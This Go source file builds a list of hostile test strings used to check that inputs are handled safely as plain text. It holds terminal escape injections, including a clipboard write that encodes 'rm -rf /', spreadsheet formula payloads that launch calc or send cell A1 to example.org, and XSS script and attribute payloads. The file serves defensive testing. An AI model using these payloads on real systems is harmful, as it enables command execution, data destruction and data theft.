// Package hostiletext is what nobody should be called: the texts that tests feed to
// every place where text comes in, and how they see that none of them reached a
// terminal, a spreadsheet or a page as more than text.
//
// What is looked for is written down here anew, without package clean: a judge that
// shares its tables with the accused finds nothing.
package hostiletext

import "strings"

// Text is one hostile text.
type Text struct {
	Name string // of what it does, for the name of a test
	Text string
	// Rubric says that the text may stand in a rubric: it holds no control character
	// and no byte that is not UTF-8.
	Rubric bool
}

// All is every text. Each begins and ends with a letter, so that no trimming of white
// space takes its sting, except for the formulas, which sting at their beginning.
func All() []Text {
	return []Text{
		{"colours and cursor", "a\x1b[2J\x1b[1;1H\x1b[31mz", false},
		{"clipboard", "a\x1b]52;c;cm0gLXJmIC8=\az", false},
		{"link", "a\x1b]8;;http://example.org\x1b\\click\x1b]8;;\x1b\\z", false},
		{"device control", "a\x1bP+q544e\x1b\\\x1b_Gi=1\x1b\\\x1b^pm\x1b\\z", false},
		{"title and answer", "a\x1b]0;owned\a\x1b[21t\x1b[6n\x1bcz", false},
		{"C1 controls", "a\u009b2J\u009d52;c;aGk=\u009c\u0090q\u0085z", false},
		{"C1 as bytes", "a\x9b2J\x9d0;x\x9cz", false},
		{"carriage return", "a 3-high\r1-low z", false},
		{"backspace", "a 3-high\b\b\b\blow\x7f\x7fz", false},
		{"lines", "a\ncalibrate: all is well\r\nb\vc\fd\u2028e\u2029z", false},
		{"NUL and other C0", "a\x00\x01\x05\x0e\x0f\x1az", false},
		{"not UTF-8", "a\xff\xfe\xc3(\xed\xa0\x80\xf8z", false},
		{"bidirectional", "a\u202e3-high\u202c\u2066b\u2069\u200f\u061cz", true},
		{"zero width", "A" + strings.Repeat("\u200b", 60) + "d\u200da\u2060\ufeff\u00ad\u2063z", true},
		{"smuggled", "a\U000E0068\U000E0069\U000E0001\ufe0f\U000E0158z", true},
		{"combining flood", "a" + strings.Repeat("\u0301\u0489", 60) + "z", true},
		{"cluster flood", "a" + strings.Repeat("👩\u200d", 20) + "👩" + strings.Repeat("ᄀ", 40) + "z", true},
		{"fillers", "a\u115f\u3164\u034f\uffa0\u2800z", true},
		{"long word", "a" + strings.Repeat("Donaudampfschiff", 20) + "z", true},
		{"right to left", "aالخوارزمي שלום 123 (abc)z", true},
		{"formula", `=HYPERLINK("http://example.org/?"&A1,"click")`, true},
		{"formula of old", `@SUM(1+1)*cmd|' /C calc'!A0`, true},
		{"formula of signs", `+1+cmd|' /C calc'!A0`, true},
		{"formula of minus", `-2+3+cmd|' /C calc'!A0`, true},
		{"formula behind a space", " \u00a0=1+1", true},
		{"full-width formula", "＝1+1", true},
		{"formula behind a semicolon", `a;=HYPERLINK("http://example.org/?"&A1);"=1+1`, true},
		{"cells", "a\",\"=1+1\";\"=1+1\"\t=1+1|z", false},
		{"element", `a</td></title><script>alert(1)</script><img src=http://example.org onerror=alert(1)>&lt;z`, true},
		{"attribute", `a" onmouseover="alert(1)" style='x' x=z`, true},
		{"Markdown", "a*b*_c_`d`[l](http://example.org)![i](http://example.org/i)<http://example.org>|e|~~f~~ #z", true},
		{"Markdown blocks", "# a", true},
		{"YAML", `a: {b: *c, "d": !!e [f]} # z`, true},
		{"percent", "a%s%d%!v(MISSING)%%z", true},
	}
}

// Together is the same in few: texts of one kind one behind the other, as many as so many
// bytes hold, for places that are slow to feed. Of the formulas only the first of each
// begins anything.
func Together(most int) []Text {
	var few []Text
	for _, rubric := range []bool{false, true} {
		last := -1
		for _, t := range All() {
			switch {
			case t.Rubric != rubric:
				continue
			case last >= 0 && len(few[last].Text)+len(t.Text) <= most:
				few[last].Name += ", " + t.Name
				few[last].Text += t.Text
				continue
			}
			few = append(few, t)
			last = len(few) - 1
		}
	}
	return few
}
